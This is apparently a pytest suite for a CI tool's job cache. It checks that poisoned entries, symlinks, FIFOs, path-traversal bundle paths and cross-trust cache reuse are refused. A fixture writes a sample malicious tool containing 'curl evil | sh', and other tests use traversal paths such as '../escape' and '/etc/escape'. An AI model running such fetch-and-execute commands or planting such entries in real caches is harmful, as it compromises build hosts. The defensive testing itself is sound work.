"""Job caches: round trip, poisoned entries, links and FIFOs, trust namespaces."""

from __future__ import annotations

import io
import os
import struct
from pathlib import Path

import pytest

from bastion.engine.cache_scope import cache_namespace
from bastion.engine.model import RunContext, Trust
from bastion.executors import CacheSpec, JobEvent, JobEventKind, JobSpec, WorkspaceSource
from bastion.executors.cache_bundle import MAGIC, BundleReader, CacheError
from bastion.executors.job_cache import CacheStore, restore_caches, save_caches

_SPEC = CacheSpec(key=("pip-", ("requirements.txt",)), paths=(".cache/pip",))


def _spec(cache_dir: Path) -> JobSpec:
    return JobSpec(
        run_id=1,
        job="build",
        steps=(),
        source=WorkspaceSource("/nonexistent"),
        cache=(_SPEC,),
        cache_dir=str(cache_dir),
    )


def _workspace(root: Path) -> Path:
    root.mkdir()
    (root / "requirements.txt").write_text("requests==2.32.3\n")
    return root


def _fill(root: Path) -> None:
    pip = root / ".cache" / "pip"
    (pip / "wheels").mkdir(parents=True)
    (pip / "wheels" / "a.whl").write_bytes(b"wheel" * 1000)
    (pip / "tool").write_bytes(b"#!/bin/sh\n")
    (pip / "tool").chmod(0o755)


def _run(spec: JobSpec, root: Path) -> tuple[tuple[str | None, ...], list[JobEvent]]:
    events: list[JobEvent] = []
    keys = restore_caches(spec, root, events.append)
    return keys, events


def _log(events: list[JobEvent]) -> str:
    return b"".join(e.data for e in events if e.kind is JobEventKind.OUTPUT).decode()


def test_saved_entry_is_restored_into_a_fresh_workspace(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    first = _workspace(tmp_path / "one")
    keys, events = _run(spec, first)
    assert "miss for pip-" in _log(events)
    _fill(first)
    save_caches(spec, first, keys, events.append)
    assert "saved pip-" in _log(events)

    second = _workspace(tmp_path / "two")
    again, events = _run(spec, second)
    assert again == keys
    assert (second / ".cache/pip/wheels/a.whl").read_bytes() == b"wheel" * 1000
    assert os.access(second / ".cache/pip/tool", os.X_OK)
    assert "restored pip-" in _log(events)


def test_key_follows_the_lock_file(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    keys, _ = _run(spec, _workspace(tmp_path / "one"))
    changed = _workspace(tmp_path / "two")
    (changed / "requirements.txt").write_text("requests==2.32.4\n")
    other, _ = _run(spec, changed)
    assert keys != other


def test_entries_are_immutable(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    _fill(root)
    save_caches(spec, root, keys, events.append)
    (root / ".cache/pip/tool").write_bytes(b"changed")
    save_caches(spec, root, keys, events.append)
    assert "never replaced" in _log(events)
    fresh = _workspace(tmp_path / "two")
    _run(spec, fresh)
    assert (fresh / ".cache/pip/tool").read_bytes() == b"#!/bin/sh\n"


def test_poisoned_entry_is_discarded_with_a_warning_and_an_audit_event(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    _fill(root)
    save_caches(spec, root, keys, events.append)
    [entry] = (tmp_path / "cache" / "objects").iterdir()
    data = bytearray(entry.read_bytes())
    data[-100] ^= 0xFF  # inside the wheel's bytes: the entry still parses
    entry.write_bytes(bytes(data))

    fresh = _workspace(tmp_path / "two")
    _, events = _run(spec, fresh)
    assert not (fresh / ".cache").exists()  # what was unpacked before the check is gone
    assert "WARNING: entry pip-" in _log(events)
    [poisoned] = [e for e in events if e.kind is JobEventKind.CACHE_POISONED]
    assert poisoned.details["key"] == keys[0]
    assert not entry.exists()
    assert CacheStore(tmp_path / "cache").lookup(str(keys[0])) is None


def test_symlink_in_a_cache_path_refuses_the_save(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    _fill(root)
    (tmp_path / "secret").write_text("host file")
    (root / ".cache/pip/link").symlink_to(tmp_path / "secret")
    save_caches(spec, root, keys, events.append)
    assert "is a symbolic link" in _log(events)
    assert CacheStore(tmp_path / "cache").lookup(str(keys[0])) is None


def test_cache_path_that_is_a_link_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    outside = tmp_path / "outside"
    (outside / "pip").mkdir(parents=True)
    (outside / "pip" / "private").write_text("not the job's")
    (root / ".cache").symlink_to(outside)
    save_caches(spec, root, keys, events.append)
    assert "symbolic link" in _log(events)
    assert CacheStore(tmp_path / "cache").lookup(str(keys[0])) is None


def test_fifo_in_a_cache_path_refuses_the_save_without_blocking(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    _fill(root)
    os.mkfifo(root / ".cache/pip/pipe")
    save_caches(spec, root, keys, events.append)
    assert "FIFO" in _log(events)
    assert CacheStore(tmp_path / "cache").lookup(str(keys[0])) is None


def test_restore_never_writes_through_a_link_planted_in_the_source(tmp_path: Path) -> None:
    spec = _spec(tmp_path / "cache")
    root = _workspace(tmp_path / "one")
    keys, events = _run(spec, root)
    _fill(root)
    save_caches(spec, root, keys, events.append)
    outside = tmp_path / "outside"
    outside.mkdir()
    fresh = _workspace(tmp_path / "two")
    (fresh / ".cache").symlink_to(outside)  # a hostile commit's `.cache` -> host folder
    _, events = _run(spec, fresh)
    assert list(outside.iterdir()) == []
    assert "not restored" in _log(events)


def _bundle(*records: tuple[bytes, str, bytes]) -> bytes:
    out = bytearray(MAGIC)
    for kind, path, data in records:
        name = path.encode()
        out += struct.pack(">cHHQ", kind, 0o644, len(name), len(data)) + name + data
    return bytes(out + struct.pack(">cHHQ", b"e", 0, 0, 0))


@pytest.mark.parametrize("path", ["../escape", "/etc/escape", "other/file", ".cache/pip/../x"])
def test_entry_paths_outside_the_cache_paths_are_refused(tmp_path: Path, path: str) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    reader = BundleReader(root, (".cache/pip",))
    with pytest.raises(CacheError):
        reader.read(io.BufferedReader(io.BytesIO(_bundle((b"f", path, b"x")))))
    reader.undo()
    assert list(root.iterdir()) == []
    assert not (tmp_path / "escape").exists()


def test_a_run_reads_and_writes_only_its_own_trust_level(tmp_path: Path) -> None:
    root = tmp_path / "cache" / "jobs"
    dirty = RunContext("repo", None, "main", "local", Trust.DIRTY)
    local = RunContext("repo", "c" * 40, "main", "local", Trust.LOCAL)
    untrusted = RunContext("repo", "c" * 40, "pr", "pull_request", Trust.UNTRUSTED)
    trusted = RunContext("repo", "c" * 40, "main", "push", Trust.TRUSTED)
    spaces = {cache_namespace(root, c) for c in (dirty, local, untrusted, trusted)}
    assert len(spaces) == 4

    # The attack: a dirty run saves a poisoned tool under the key a local run will render.
    attacker = _workspace(tmp_path / "dirty")
    keys, events = _run(_spec(cache_namespace(root, dirty)), attacker)
    _fill(attacker)
    (attacker / ".cache/pip/tool").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    save_caches(_spec(cache_namespace(root, dirty)), attacker, keys, events.append)

    victim = _workspace(tmp_path / "local")
    same, events = _run(_spec(cache_namespace(root, local)), victim)
    assert same == keys
    assert "miss for" in _log(events)
    assert not (victim / ".cache").exists()


def test_entry_may_not_create_folders_beside_the_cache_paths(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    reader = BundleReader(root, (".cache/pip",))
    bundle = _bundle((b"d", "bin", b""), (b"f", "bin/make", b"#!/bin/sh\nevil\n"))
    with pytest.raises(CacheError, match="outside the job's cache paths"):
        reader.read(io.BufferedReader(io.BytesIO(bundle)))
    reader.undo()
    assert list(root.iterdir()) == []
